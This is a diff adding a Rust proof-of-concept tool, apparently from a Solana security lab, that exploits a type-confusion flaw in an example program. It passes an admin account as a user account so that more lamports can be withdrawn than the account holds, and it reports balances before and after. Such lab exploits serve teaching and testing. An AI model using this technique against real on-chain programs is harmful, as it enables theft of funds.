@@ -0,0 +1,50 @@
+//! poc-type-confusion: withdraws more than an admin account holds by
+//! passing it as a user account
+//!
+//! ```bash
+//! poc-type-confusion --victim ADMIN_ACCOUNT --amount LAMPORTS [--rpc URL]
+//! ```
+//!
+//! The admin account is the attacker's own. No example instruction writes
+//! one, so it has to be on the cluster already.
+
+use std::process::ExitCode;
+
+use anyhow::Result as AnyResult;
+use clap::Parser;
+use lab_client::type_confusion::Client;
+use lab_pocs::{Exploit, Report, Target};
+use solana_program::pubkey::Pubkey;
+
+#[derive(Parser)]
+#[command(
+    name = "poc-type-confusion",
+    about = "Overdraw a type_confusion admin account read as a user account"
+)]
+struct Args {
+    #[command(flatten)]
+    target: Target,
+    /// The attacker's admin account
+    #[arg(long)]
+    victim: Pubkey,
+    /// How much to withdraw, more than the account's balance
+    #[arg(long)]
+    amount: u64,
+}
+
+fn main() -> ExitCode {
+    lab_pocs::run(poc)
+}
+
+async fn poc(args: Args) -> AnyResult<Report> {
+    let client = Client::new(args.target.client("type_confusion")?);
+    let mut report = Report::new("type_confusion", &args.target, &client);
+    let admin_account = args.victim;
+    report.inspect(&client, "before", admin_account).await?;
+    let overdrawn = client.exploit_overdraw(admin_account, args.amount).await;
+    report.inspect(&client, "after", admin_account).await?;
+    Ok(report.exploit(
+        admin_account,
+        overdrawn.map(|_| Exploit::took(args.amount, admin_account)),
+    ))
+}